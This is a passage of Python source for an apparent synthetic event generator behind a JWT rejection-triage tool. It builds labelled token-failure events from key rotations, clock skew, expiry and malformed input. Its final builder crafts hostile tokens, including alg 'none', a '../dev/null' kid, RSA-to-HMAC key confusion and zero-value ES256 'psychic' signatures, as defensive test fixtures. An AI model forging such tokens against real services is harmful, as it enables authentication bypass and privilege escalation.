        for kid, since in self.lanes[(issuer, lane)]:
            if since is None or since <= when:
                current = kid
        return current

    def _switches(self, issuer: str) -> list[tuple[str, str, int, str]]:
        """(lane, new kid, switch time, previous kid) for every in-window signing switch."""
        out = []
        for (name, lane), steps in self.lanes.items():
            if name != issuer:
                continue
            for (old, _), (new, since) in itertools.pairwise(steps):
                if since is not None:
                    out.append((lane, new, since, old))
        return out

    # -- service caches --------------------------------------------------------------------------

    def _schedule_caches(self) -> None:
        """Each service's JWKS fetch times: a TTL grid (phased against a rotation where the
        story wants a stale burst), plus on-demand refreshes for services that refetch on an
        unknown kid (rate-limited to one per 5 minutes while the kid stays unknown)."""
        for service in _SERVICES:
            ttl = service.ttl_s * _SECOND
            anchor = None
            if service.anchor is not None:
                issuer, low, high = service.anchor
                _, new, since, _ = self._switches(issuer)[0]
                seen = self.timeline.first_seen(issuer, new)
                if seen is not None:
                    begin = max(since, seen)
                    limit = min(seen + ttl, self.end)
                    if limit > begin:
                        anchor = begin + round((limit - begin) * self.rng.uniform(low, high))
                    else:
                        anchor = seen + round(ttl * self.rng.uniform(0.05, 0.95))
            if anchor is None:
                anchor = self.start + round(ttl * self.rng.uniform(0.0, 1.0))
            first = anchor - ((anchor - self.start) // ttl + 1) * ttl  # the last fetch before the window
            scheduled = list(range(first, self.end + 1, ttl))
            fetches = list(scheduled)
            if service.refresh_on_unknown_kid:
                for issuer in service.issuers:
                    for _, new, since, _ in self._switches(issuer):
                        seen = self.timeline.first_seen(issuer, new)
                        attempt = since + self.rng.randrange(1 * _SECOND, 20 * _SECOND)
                        while attempt <= self.end:
                            last = scheduled[bisect.bisect_right(scheduled, attempt) - 1]
                            if seen is not None and last >= seen:
                                break  # its scheduled fetch already brought the key
                            fetches.append(attempt)
                            if seen is not None and attempt >= seen:
                                break
                            attempt += _REFRESH_COOLDOWN + self.rng.randrange(0, 30 * _SECOND)
            self.fetches[service.name] = sorted(fetches)

    def fetched_at(self, service: str, when: int) -> int:
        fetches = self.fetches[service]
        return fetches[max(bisect.bisect_right(fetches, when) - 1, 0)]

    def first_fetch_after(self, service: str, when: int) -> int | None:
        fetches = self.fetches[service]
        index = bisect.bisect_left(fetches, when)
        return fetches[index] if index < len(fetches) else None

    # -- the rotation intervals -------------------------------------------------------------------

    def _callers(self, service: str, issuer: str, lane: str, names: Sequence[str]) -> list[str]:
        return [
            n
            for n in names
            if _CLIENT_BY_NAME[n].issuer == issuer
            and _CLIENT_BY_NAME[n].lane == lane
            and service in _CLIENT_BY_NAME[n].services
        ]

    def rotation_intervals(self) -> dict[str, list[_Interval]]:
        """Where and when each service rejects tokens because of a rotation, per kind."""
        out: dict[str, list[_Interval]] = {
            "rotation-stale-cache": [],
            "rotation-unpublished-key": [],
            "rotation-retired-key": [],
        }
        horizon = MAX_JWKS_CACHE_TTL_SECONDS * _SECOND
        for service in _SERVICES:
            for issuer in service.issuers:
                for lane, new, since, old in self._switches(issuer):
                    seen = self.timeline.first_seen(issuer, new)
                    published = seen if seen is not None else self.end
                    ordinary = self._callers(service.name, issuer, lane, _ORDINARY)
                    # Signed before it was published: every service rejects it.
                    if published > since:
                        for client in ordinary:
                            out["rotation-unpublished-key"].append(
                                self._interval(service, client, new, since, min(published, self.end), since)
                            )
                    # Published, but this service's cache predates it.
                    if seen is not None:
                        begin = max(since, seen)
                        refresh = self.first_fetch_after(service.name, seen) or self.end
                        end = min(refresh, self.end)
                        if service.fetch_time != "reported":
                            end = min(end, seen + horizon)  # DESIGN.md's heuristic horizon
                        if end > begin:
                            for client in ordinary:
                                out["rotation-stale-cache"].append(
                                    self._interval(service, client, new, begin, end, since)
                                )
                    # The old key was removed while long-lived tokens signed with it live on.
                    removed = self.timeline.removed_at(issuer, old)
                    if removed is None:
                        continue
                    dropped = self.first_fetch_after(service.name, removed)
                    if dropped is None:
                        continue
                    for client in self._callers(service.name, issuer, lane, _LONG_LIVED):
                        # The last token signed with the old key expires at `dies`.
                        dies = since + _CLIENT_BY_NAME[client].lifetime_s * _SECOND
                        end = min(self.end, dies - 2 * _MINUTE)
                        if end > dropped:
                            # Old-key tokens die out linearly towards `dies`: weight by the mean survivors.
                            alive = ((dies - dropped) + (dies - end)) / 2 / (dies - dropped)
                            weight = service.traffic * (end - dropped) / _HOUR * alive
                            out["rotation-retired-key"].append(
                                _Interval(service.name, client, old, dropped, end, weight, since, dies)
                            )
        return out

    @staticmethod
    def _interval(
        service: _ServiceSpec, client: str, kid: str, start: int, end: int, ramp_from: int
    ) -> _Interval:
        length = max(end - start, 0)
        ramp = (
            sum(min(1.0, max(0.05, (start + length * (i + 0.5) / 16 - ramp_from) / _HOUR)) for i in range(16))
            / 16
        )
        return _Interval(
            service.name, client, kid, start, end, service.traffic * length / _HOUR * ramp, ramp_from
        )

    def sample_interval(self, interval: _Interval) -> int:
        """A time in the interval, denser where more tokens are affected."""
        for _ in range(64):
            when = self.rng.randrange(interval.start, interval.end)
            if interval.decay_to is not None:
                weight = (interval.decay_to - when) / max(interval.decay_to - interval.start, 1)
            else:
                weight = min(1.0, max(0.05, (when - interval.ramp_from) / _HOUR))
            if self.rng.random() < weight:
                return when
        return self.rng.randrange(interval.start, interval.end)

    def diurnal_time(self, low: int | None = None, high: int | None = None) -> int:
        """A time with more traffic in the (UTC) working day than at night."""
        low = self.start if low is None else low
        high = self.end if high is None else high
        for _ in range(64):
            when = self.rng.randrange(low, high)
            hour = (when // _HOUR) % 24
            if self.rng.random() * 1.45 < 1 + 0.45 * math.sin(2 * math.pi * (hour - 9) / 24):
                return when
        return self.rng.randrange(low, high)

    # -- the plan -----------------------------------------------------------------------------------

    def plan(self, total: int) -> list[_Plan]:
        """Every event to build, with its time, kind, service and client; in time order."""
        intervals = self.rotation_intervals()
        kinds = [k for k, _ in _MIX]
        counts = dict(zip(kinds, _allocate(total, [s for _, s in _MIX]), strict=True))
        for kind in intervals:  # a rotation that cannot happen at this size gives its share to expiry
            if not intervals[kind]:
                counts["expired-token-reuse"] += counts[kind]
                counts[kind] = 0
        plans: list[_Plan] = []
        for kind in kinds:
            count = counts[kind]
            if kind in intervals and count:
                pool = intervals[kind]
                weights = [i.weight for i in pool]
                for interval in self.rng.choices(pool, weights=weights, k=count):
                    plans.append(
                        _Plan(
                            self.sample_interval(interval),
                            kind,
                            kind,
                            interval.service,
                            interval.client,
                            interval.kid,
                        )
                    )
            elif kind == "attack":
                plans.extend(self._plan_attacks(count))
            elif kind in ("malformed", "bad-line"):
                variants = _round_robin(self.rng, _MALFORMED if kind == "malformed" else _BAD_LINES, count)
                for variant in variants:
                    service, client = self._pick(_PAIRS["malformed"])
                    plans.append(_Plan(self.diurnal_time(), kind, variant, service, client))
            else:
                # Clock and expiry trouble comes in episodes: a client retries a few times
                # within a minute or two with the same token.
                made = 0
                while made < count:
                    service, client = self._pick(_PAIRS[kind])
                    when = self.diurnal_time(self._earliest_time(kind, service), None)
                    size = 1 + int(self.rng.expovariate(1 / 3)) if kind in _EPISODIC else 1
                    for _ in range(min(size, count - made)):
                        plans.append(_Plan(min(when, self.end - 1), kind, kind, service, client))
                        when += self.rng.randrange(3 * _SECOND, 40 * _SECOND)
                    made += min(size, count - made)
        plans.sort(key=lambda p: p.ts)
        return plans

    def _earliest_time(self, kind: str, service: str) -> int:
        """A buggy validator's rejection is `valid` only once the service's own cache postdates
        its issuers' first snapshots; before that DESIGN.md's rule would call it stale_jwks."""
        if kind != "buggy-validator":
            return self.start
        earliest = max(self.timeline.earliest[i] for i in _SERVICE_BY_NAME[service].issuers)
        return min(self.first_fetch_after(service, earliest) or self.start, self.end - 1)

    def _pick(self, pairs: Sequence[tuple[str, str | None, float]]) -> tuple[str, str | None]:
        weights = [w * _SERVICE_BY_NAME[s].traffic for s, _, w in pairs]
        service, client, _ = self.rng.choices(pairs, weights=weights, k=1)[0]
        return service, client

    def _plan_attacks(self, count: int) -> list[_Plan]:
        """A burst: one attacker probing a few services for about half an hour."""
        begin = self.at(0.72) or self.start
        length = max(min(30 * _MINUTE, (self.end - self.start) // 12), _MINUTE)
        end = min(begin + length, self.end)
        targets = (
            ("edge-proxy", 0.4),
            ("payments-api", 0.25),
            ("orders-api", 0.2),
            ("partner-gateway", 0.15),
        )
        plans = []
        for variant in _round_robin(self.rng, _ATTACKS, count):
            service = self.rng.choices([t for t, _ in targets], weights=[w for _, w in targets], k=1)[0]
            plans.append(_Plan(self.rng.randrange(begin, end), "attack", variant, service, None))
        return plans

    # -- token minting -------------------------------------------------------------------------------

    def _mode(self, inline: float = 0.68, sampled: float = 0.29) -> str:
        roll = self.rng.random()
        return "inline" if roll < inline else "sampled" if roll < inline + sampled else "unsampled"

    def _wrap(
        self,
        text: str,
        signed_with: str | None,
        signer: str | None,
        iat: int | None,
        exp: int | None,
        mode: str | None = None,
    ) -> _Token:
        sha256 = hashlib.sha256(text.encode("ascii")).hexdigest()
        return _Token(text, signed_with, signer, iat, exp, mode or self._mode(), sha256)

    def _claims(self, client: _ClientSpec, iat: int, exp: int, nbf: int | None = None) -> dict[str, Any]:
        issuer = _ISSUER_BY_NAME[client.issuer or "corp"].url
        claims: dict[str, Any] = {"iss": issuer}
        if client.subject == "user":
            claims["sub"] = f"user-{self.rng.randrange(1, 40_000):05d}"
        elif client.subject is not None:
            claims["sub"] = client.subject
        claims["aud"] = list(client.audiences) if len(client.audiences) > 1 else client.audiences[0]
        claims[client.party_claim] = client.name
        claims["iat"] = iat
        if nbf is not None:
            claims["nbf"] = nbf
        claims["exp"] = exp
        claims["jti"] = f"{self.rng.getrandbits(64):016x}"
        claims["scope"] = "openid api.read" if client.subject == "user" else "api.read api.write"
        return claims

    def _sign_claims(self, client: _ClientSpec, claims: dict[str, Any], kid: str) -> tuple[str, str | None]:
        """(token, the published kid whose valid signature it carries)."""
        key = self.keys[kid]
        alg = client.alg or key.alg
        header_kid = client.kid_override or kid
        text = _encode(claims, key, alg, {"kid": header_kid})
        # A token is verifiable with a published key only with that key's own alg and kid.
        signer = kid if (alg == key.alg and header_kid == kid and client.issuer is not None) else None
        return text, signer

    def _key_for(self, client: _ClientSpec, when: int) -> str:
        if client.issuer is None:
            return "dev-laptop-rs"
        return self.signing_key(client.issuer, client.lane, when)

    def mint(
        self,
        client: _ClientSpec,
        signed_at: int,
        *,
        iat: int | None = None,
        exp: int | None = None,
        nbf: bool = False,
        kid: str | None = None,
        edit: Callable[[dict[str, Any]], None] | None = None,
        mode: str | None = None,
    ) -> _Token:
        """A fresh token for `client`, signed at `signed_at` with the key it then used."""
        iat_s = iat if iat is not None else signed_at // _SECOND
        exp_s = exp if exp is not None else iat_s + client.lifetime_s
        claims = self._claims(client, iat_s, exp_s, iat_s if nbf else None)
        if edit is not None:
            edit(claims)
        key = kid or self._key_for(client, signed_at)
        text, signer = self._sign_claims(client, claims, key)
        return self._wrap(text, key, signer, iat_s, exp_s, mode)

    def reuse(
        self, slot: tuple[str, str], fits: Callable[[_Token], bool], make: Callable[[], _Token]
    ) -> _Token:
        """The client's token in that slot while it still fits, else a new one (unless every
        event must carry a fresh token, for benchmarks)."""
        held = self.cache.get(slot)
        if held is not None and not self.unique_tokens and fits(held):
            return held
        token = make()
        self.cache[slot] = token
        return token

    def ordinary(self, client: _ClientSpec, when: int, kid: str | None = None) -> _Token:
        """The token the client currently holds; a new one when it is near expiry."""
        wanted = kid or self._key_for(client, when)
        since = self._signing_since(client, wanted)

        def fits(t: _Token) -> bool:
            return (
                t.signed_with == wanted
                and t.iat is not None
                and t.exp is not None
                and t.iat * _SECOND <= when - _SECOND
                and when <= t.exp * _SECOND - 60 * _SECOND
            )

        def make() -> _Token:
            latest = when - _SECOND
            earliest = max(since, when - min(client.lifetime_s * _SECOND // 2, 20 * _MINUTE))
            signed = self.rng.randrange(earliest, latest) if latest > earliest else latest
            return self.mint(client, signed, kid=wanted)

        return self.reuse((client.name, f"ordinary:{wanted}"), fits, make)

    def _signing_since(self, client: _ClientSpec, kid: str) -> int:
        if client.issuer is None:
            return self.start - 10 * _HOUR
        for key, since in self.lanes[(client.issuer, client.lane)]:
            if key == kid:
                return since if since is not None else self.start - 10 * _HOUR
        return self.start - 10 * _HOUR

    # -- building events ------------------------------------------------------------------------------

    def build(self, plan: _Plan) -> _Built:
        service = _SERVICE_BY_NAME.get(plan.service)
        if plan.kind == "bad-line":
            return self._bad_line(plan)
        assert service is not None
        client = _CLIENT_BY_NAME[plan.client] if plan.client else None
        if plan.kind == "reported-only":
            return self._reported_only(plan, service)
        builder = _BUILDERS[plan.kind]
        token, intended, message_key, client_id = builder(self, plan, service, client)
        return self._token_event(plan, service, token, intended, message_key, client_id)

    def _new_ids(self) -> tuple[str, str]:
        while True:
            event_id = f"evt-{self.rng.getrandbits(48):012x}"
            if event_id not in self.event_ids:
                self.event_ids.add(event_id)
                return event_id, f"req-{self.rng.getrandbits(64):016x}"

    def _token_event(
        self,
        plan: _Plan,
        service: _ServiceSpec,
        token: _Token,
        intended: Cause,
        message_key: str,
        client_id: str | None,
    ) -> _Built:
        event_id, request_id = self._new_ids()
        event: dict[str, Any] = {"event_id": event_id, "ts": _iso(plan.ts, service.utc_offset_min)}
        event["service"] = service.name
        if client_id is not None:
            event["client_id"] = client_id
        event["request_id"] = request_id
        if token.mode == "inline":
            event["token"] = token.text
        else:
            event["token_sha256"] = token.sha256
        message = _STYLE_MESSAGES[service.style].get(message_key)
        if message is not None and (token.mode == "unsampled" or self.rng.random() < 0.85):
            event["reported_error"] = message
        fetched: int | None = None
        if service.fetch_time == "reported":
            fetched = self.fetched_at(service.name, plan.ts)
            event["service_jwks_fetched_at"] = _iso(fetched, service.utc_offset_min)
        elif service.fetch_time == "null":
            event["service_jwks_fetched_at"] = None
        if token.mode == "sampled" and (token.samples_sent == 0 or self.rng.random() < 0.02):
            token.samples_sent += 1
            sampled_at = plan.ts + self.rng.randrange(50, 1500)
            sample = {"token": token.text, "sampled_at": _iso(sampled_at), "service": service.name}
            self.samples.append(
                Record(None, json.dumps(sample, separators=(",", ":")).encode(), _dt(sampled_at))
            )
        if token.mode == "unsampled":
            cause = REPORTED_ERRORS.get(event.get("reported_error", ""), Cause.UNVERIFIABLE)
            attacks: list[str] = []
            confidence = "reported"
            intended = cause
        else:
            cause, attacks = self.judge.token(token, service, plan.ts, fetched)
            confidence = "verified"
        value = json.dumps(event, separators=(",", ":")).encode()
        truth: dict[str, Any] = {
            "event_id": event_id,
            "cause": cause.value,
            "attacks": attacks,
            "confidence": confidence,
            "dead_letter": None,
            "scenario": plan.kind if plan.variant == plan.kind else f"{plan.kind}-{plan.variant}",
        }
        return _Built(Record(service.name, value, _dt(plan.ts)), truth, intended)

    def _reported_only(self, plan: _Plan, service: _ServiceSpec) -> _Built:
        """No token at all: the validator's message is the only evidence (or there is none)."""
        event_id, request_id = self._new_ids()
        messages = sorted(set(_STYLE_MESSAGES[service.style].values()))
        message = self.rng.choice(messages) if messages and self.rng.random() < 0.9 else None
        event: dict[str, Any] = {"event_id": event_id, "ts": _iso(plan.ts, service.utc_offset_min)}
        event["service"] = service.name
        if plan.client is not None:
            event["client_id"] = plan.client
        event["request_id"] = request_id
        if message is not None:
            event["reported_error"] = message
        if service.fetch_time == "reported":
            event["service_jwks_fetched_at"] = _iso(
                self.fetched_at(service.name, plan.ts), service.utc_offset_min
            )
        cause = REPORTED_ERRORS[message] if message is not None else Cause.UNVERIFIABLE
        truth: dict[str, Any] = {
            "event_id": event_id,
            "cause": cause.value,
            "attacks": [],
            "confidence": "reported",
            "dead_letter": None,
            "scenario": "reported-only" if message else "no-token-no-message",
        }
        value = json.dumps(event, separators=(",", ":")).encode()
        return _Built(Record(service.name, value, _dt(plan.ts)), truth, cause)

    def _bad_line(self, plan: _Plan) -> _Built:
        """A line that is not a valid event; DESIGN.md: it becomes a dead letter with a reason."""
        event_id, request_id = self._new_ids()
        service = _SERVICE_BY_NAME[plan.service]
        stamp = _iso(plan.ts, service.utc_offset_min)
        client = _CLIENT_BY_NAME["web-app"]
        reason: str
        key: str | None = service.name
        listed: str | None = event_id
        if plan.variant == "not-json":
            token = self.ordinary(client, plan.ts).text
            good = json.dumps({"event_id": event_id, "ts": stamp, "service": service.name, "token": token})
            value = good[: len(good) // 2].encode()  # a producer cut the line in the middle of the token
            reason, listed = "not_json", None
        elif plan.variant == "log-line":
            value = f"{stamp} WARN upstream connect error or disconnect/reset before headers".encode()
            reason, listed = "not_json", None
        elif plan.variant == "invalid-utf8":
            value = (
                b'{"event_id":"' + event_id.encode() + b'","ts":"' + stamp.encode() + b'","service":"'
                + service.name.encode() + b'","client_id":"caf\xe9-kiosk","reported_error":"Jwt is expired"}'
            )  # fmt: skip
            reason, listed = "invalid_utf8", None
        elif plan.variant == "missing-ts":
            token = self.ordinary(client, plan.ts).text
            value = json.dumps({"event_id": event_id, "service": service.name, "token": token}).encode()
            reason = "missing_ts"
        elif plan.variant == "naive-ts":
            naive = _dt(plan.ts).replace(tzinfo=None).isoformat(timespec="milliseconds")
            event = {"event_id": event_id, "ts": naive, "service": service.name, "request_id": request_id,
                     "reported_error": "Jwt is expired"}  # fmt: skip
            value = json.dumps(event).encode()
            reason = "naive_ts"
        else:
            key = "search-api"
            token = self.ordinary(client, plan.ts).text
            event = {"event_id": event_id, "ts": _iso(plan.ts), "service": "search-api", "token": token,
                     "request_id": request_id}  # fmt: skip
            value = json.dumps(event, separators=(",", ":")).encode()
            reason = "unknown_service"
        truth: dict[str, Any] = {
            "event_id": listed,
            "cause": None,
            "attacks": [],
            "confidence": None,
            "dead_letter": reason,
            "scenario": f"bad-line-{plan.variant}",
        }
        return _Built(Record(key, value, _dt(plan.ts)), truth, None)


@dataclass(frozen=True, slots=True)
class _Built:
    record: Record
    truth: dict[str, Any]
    intended: Cause | None


# -- builders: one per kind, each returns (token, intended cause, message key, client_id) ---------

_BuildResult = tuple[_Token, Cause, str, str | None]


def _rotation(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """An otherwise valid token whose key timing is the whole story."""
    assert client is not None and plan.kid is not None
    intended = {
        "rotation-stale-cache": Cause.STALE_JWKS,
        "rotation-unpublished-key": Cause.UNPUBLISHED_KEY,
        "rotation-retired-key": Cause.RETIRED_KEY,
    }[plan.kind]
    if plan.kind != "rotation-retired-key":
        return world.ordinary(client, plan.ts, plan.kid), intended, intended.value, client.name
    # A long-lived token signed with the old key before the switch, still unexpired now.
    kid = plan.kid
    since = world.lanes[(client.issuer or "", client.lane)]
    until = next(s for k, s in since if s is not None and k != kid)
    lifetime = client.lifetime_s * _SECOND

    def fits(t: _Token) -> bool:
        return t.signed_with == kid and t.exp is not None and t.exp * _SECOND >= plan.ts + _MINUTE

    def make() -> _Token:
        low = plan.ts - lifetime + _MINUTE
        high = until - _MINUTE
        signed = world.rng.randrange(low, high) if high > low else high
        return world.mint(client, signed, kid=kid)

    token = world.reuse((client.name, f"long:{kid}"), fits, make)
    return token, intended, intended.value, client.name


def _expired(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """A token kept past its exp (a tab left open, a refresh that failed): far beyond skew."""
    assert client is not None
    leeway = service.leeway_s * _SECOND

    def overshoot(t: _Token) -> int:
        return plan.ts - ((t.exp or 0) * _SECOND + leeway)

    def fits(t: _Token) -> bool:
        return 330 * _SECOND <= overshoot(t) <= 10 * _HOUR

    def make() -> _Token:
        late = 330 * _SECOND + min(round(world.rng.expovariate(1 / (50 * _MINUTE))), 9 * _HOUR)
        exp = (plan.ts - leeway - late) // _SECOND
        iat = exp - client.lifetime_s
        return world.mint(client, iat * _SECOND, iat=iat, exp=exp)

    token = world.reuse((client.name, "expired"), fits, make)
    return token, Cause.EXPIRED, "expired", client.name


def _clock_behind(
    world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None
) -> _BuildResult:
    """The client's clock is behind, so it keeps sending a token a little past its exp."""
    assert client is not None
    leeway = service.leeway_s * _SECOND
    limit = min(295 * _SECOND, -client.drift_s * _SECOND - leeway)

    def fits(t: _Token) -> bool:
        late = plan.ts - ((t.exp or 0) * _SECOND + leeway)
        return 2 * _SECOND <= late <= limit

    def make() -> _Token:
        late = world.rng.randrange(2 * _SECOND, max(limit // 2, 3 * _SECOND))  # first retry: soon after exp
        exp = (plan.ts - leeway - late) // _SECOND
        iat = exp - client.lifetime_s
        return world.mint(client, iat * _SECOND, iat=iat, exp=exp)

    token = world.reuse((client.name, f"behind:{service.name}"), fits, make)
    return token, Cause.CLOCK_SKEW, "clock_skew_exp", client.name


def _clock_ahead(
    world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None
) -> _BuildResult:
    """The token's iat/nbf come from a clock that runs ahead: slightly (skew) or far (not yet valid)."""
    assert client is not None
    leeway = service.leeway_s * _SECOND
    far = plan.kind == "clock-far-ahead"
    low, high = (
        (400 * _SECOND, client.drift_s * _SECOND)
        if far
        else (2 * _SECOND, min(294 * _SECOND, client.drift_s * _SECOND - leeway - _SECOND))
    )

    def ahead(t: _Token) -> int:
        return (t.iat or 0) * _SECOND - (plan.ts + leeway)

    def fits(t: _Token) -> bool:
        return (ahead(t) >= 330 * _SECOND) if far else (2 * _SECOND <= ahead(t) <= 295 * _SECOND)

    def make() -> _Token:
        # Sent right after minting, so the first use shows nearly the whole drift.
        lead = world.rng.randrange(max(low, high - 30 * _SECOND), max(high, low + 1))
        iat = -((-(plan.ts + leeway + lead)) // _SECOND)  # ceil: the overshoot only grows, by < 1 s
        return world.mint(
            client, plan.ts - world.rng.randrange(100, 3000), iat=iat, nbf=world.rng.random() < 0.5
        )

    token = world.reuse((client.name, f"ahead:{service.name}:{far}"), fits, make)
    intended = Cause.NOT_YET_VALID if far else Cause.CLOCK_SKEW
    return token, intended, "nbf", client.name


def _buggy_validator(
    world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None
) -> _BuildResult:
    """A good token the service's validator rejects anyway: not the token's fault."""
    assert client is not None
    return world.ordinary(client, plan.ts), Cause.VALID, "valid", client.name


def _wrong_audience(
    world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None
) -> _BuildResult:
    """The client's ordinary token sent to a service it was not issued for."""
    assert client is not None
    return world.ordinary(client, plan.ts), Cause.AUDIENCE_MISMATCH, "audience_mismatch", client.name


def _variant_token(
    world: _World, client: _ClientSpec, when: int, slot: str, edit: Callable[[dict[str, Any]], None]
) -> _Token:
    """A client's token with one systematic defect, held and reused like an ordinary one."""
    kid = world._key_for(client, when)

    def fits(t: _Token) -> bool:
        return (
            t.signed_with == kid
            and t.iat is not None
            and t.iat * _SECOND <= when - _SECOND
            and when <= (t.exp or 0) * _SECOND - _MINUTE
        )

    def make() -> _Token:
        signed = max(world._signing_since(client, kid), when - world.rng.randrange(2 * _SECOND, 20 * _MINUTE))
        return world.mint(client, min(signed, when - _SECOND), kid=kid, edit=edit)

    return world.reuse((client.name, slot), fits, make)


def _unauthorized_party(
    world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None
) -> _BuildResult:
    """A beta build of the mobile app got payments in its audience, but payments-api does not
    list it as an authorized party yet."""
    assert client is not None

    def edit(claims: dict[str, Any]) -> None:
        claims["aud"] = [*claims["aud"], service.audience]

    token = _variant_token(world, client, plan.ts, f"beta:{service.name}", edit)
    return token, Cause.AUDIENCE_MISMATCH, "audience_mismatch", client.name


def _missing_aud(
    world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None
) -> _BuildResult:
    """A legacy integration whose tokens carry no `aud` at all."""
    assert client is not None
    token = _variant_token(world, client, plan.ts, "no-aud", lambda c: c.pop("aud"))
    return token, Cause.AUDIENCE_MISMATCH, "audience_mismatch", client.name


def _staging(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """A QA tool pointed at prod: signed by the staging issuer, which no prod service accepts."""
    assert client is not None
    return world.ordinary(client, plan.ts), Cause.ISSUER_MISMATCH, "issuer_mismatch", client.name


def _issuer_typo(
    world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None
) -> _BuildResult:
    """A new SDK build writes the issuer with a trailing slash: corp's key, the wrong `iss`."""
    assert client is not None

    def edit(claims: dict[str, Any]) -> None:
        claims["iss"] += "/"

    token = _variant_token(world, client, plan.ts, "iss-slash", edit)
    return token, Cause.ISSUER_MISMATCH, "issuer_mismatch", client.name


def _missing_claim(
    world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None
) -> _BuildResult:
    """A client-credentials token without `sub`, or a portal token without `iat`."""
    assert client is not None
    if client.subject is None:
        return world.ordinary(client, plan.ts), Cause.MISSING_CLAIM, "missing_claim", client.name
    token = _variant_token(world, client, plan.ts, "no-iat", lambda c: c.pop("iat"))
    return token, Cause.MISSING_CLAIM, "missing_claim", client.name


def _tampered(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """Someone edited a real token (payload or signature bytes) and kept its known kid."""
    assert client is not None
    base = world.ordinary(client, plan.ts)
    header, payload, signature = base.text.split(".")
    if plan.kind == "corrupted-signature":
        raw = bytearray(_strict_b64(signature))
        raw[len(raw) // 2] ^= 1 + world.rng.randrange(255)
        text = f"{header}.{payload}.{_b64(bytes(raw))}"
    else:
        claims = _strict_object(payload)
        claims["scope"] = world.rng.choice(["admin", "payments.refund", "*"])
        if world.rng.random() < 0.3:
            claims["sub"] = "user-00001"
        text = f"{header}.{_b64json(claims)}.{signature}"
    token = world._wrap(text, base.signed_with, None, base.iat, base.exp, world._mode(0.85, 0.15))
    return token, Cause.BAD_SIGNATURE, "bad_signature", client.name


def _dev_key(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """A developer's locally minted token: corp's `iss`, a key no issuer ever published."""
    assert client is not None
    return world.ordinary(client, plan.ts), Cause.UNKNOWN_KID, "unknown_kid", "web-app"


def _wrong_alg(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """RS512 (not an allowed alg), or RS256 under the kid of an EC key (cannot fit)."""
    assert client is not None
    token = _variant_token(world, client, plan.ts, "alg", lambda c: None)
    return token, Cause.BAD_ALG, "bad_alg", client.name


def _malformed(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """Not a compact JWS, in the ways real senders get it wrong."""
    assert client is not None
    variant = plan.variant
    mode = world._mode(0.7, 0.3)
    if variant in ("undefined", "ellipsis"):
        mode = "inline"
    if variant == "undefined":
        text = world.rng.choice(["undefined", "null", "[object Object]"])
    else:
        base = world.ordinary(client, plan.ts).text
        header, payload, signature = base.split(".")
        if variant == "bearer-prefix":
            text = f"Bearer {base}"
        elif variant == "truncated":
            text = f"{header}.{payload[: len(payload) // 2]}"
        elif variant == "four-segments":
            text = f"{base}.{_b64json({})}"
        elif variant == "header-not-object":
            text = f"{_b64json(['RS256', 'JWT'])}.{payload}.{signature}"
        elif variant == "payload-not-json":
            text = f"{header}.{_b64(b'user=alice;role=admin')}.{signature}"
        elif variant == "alg-not-string":
            head = _strict_object(header)
            head["alg"] = 256
            text = f"{_b64json(head)}.{payload}.{signature}"
        elif variant == "exp-not-number":
            claims = _strict_object(payload)
            claims["exp"] = _iso(claims["exp"] * _SECOND)
            text = f"{header}.{_b64json(claims)}.{signature}"
        else:  # a token copied from a log that shortened it with an ellipsis
            text = f"{header}.{payload[:24]}\u2026"
    token = _Token(text, None, None, None, None, mode, hashlib.sha256(text.encode("utf-8")).hexdigest())
    return token, Cause.MALFORMED, "malformed", client.name


def _jwe(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """An encrypted token (five segments): nothing jwtriage can read."""
    assert client is not None
    header = {"alg": "RSA-OAEP-256", "enc": "A256GCM", "cty": "JWT", "kid": "corp-enc-2026"}
    parts = [_b64json(header)] + [
        _b64(world.rng.randbytes(n)) for n in (256, 12, 180 + world.rng.randrange(200), 16)
    ]
    token = world._wrap(".".join(parts), None, None, None, None, "inline")
    return token, Cause.UNVERIFIABLE, "unverifiable", client.name


def _attack(world: _World, plan: _Plan, service: _ServiceSpec, client: _ClientSpec | None) -> _BuildResult:
    """Hand-built hostile tokens; each is judged like any other token, plus its attack labels."""
    keys = world.keys
    corp_rsa = world.signing_key("corp", "rsa", plan.ts)
    now = plan.ts // _SECOND
    claims = {"iss": _ISSUER_BY_NAME["corp"].url, "sub": "admin", "aud": service.audience, "azp": "web-app",
              "iat": now - 5, "exp": now + 3600, "role": "admin"}  # fmt: skip
    variant = plan.variant
    intended: Cause
    if variant in ("alg-none", "alg-none-kid"):
        header: dict[str, Any] = {"alg": world.rng.choice(["none", "None", "NONE", "nOnE"]), "typ": "JWT"}
        if variant == "alg-none-kid":
            header["kid"] = "../../../../dev/null"
        text = f"{_b64json(header)}.{_b64json(claims)}."
        intended = Cause.BAD_ALG
    elif variant in ("key-confusion", "key-confusion-devnull"):
        # The classic: the RSA public key (PEM, as the JWKS publishes it) used as an HMAC secret.
        devnull = variant == "key-confusion-devnull"
        header = {"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null" if devnull else corp_rsa}
        signing_input = f"{_b64json(header)}.{_b64json(claims)}".encode("ascii")
        secret = b"" if devnull else keys[corp_rsa].public_pem
        text = f"{signing_input.decode()}.{_b64(hmac.new(secret, signing_input, hashlib.sha256).digest())}"
        intended = Cause.BAD_ALG
    elif variant in ("psychic-zero", "psychic-order"):
        header = {"alg": "ES256", "typ": "JWT", "kid": "corp-es-2026"}
        half = (0 if variant == "psychic-zero" else _P256_ORDER).to_bytes(32, "big")
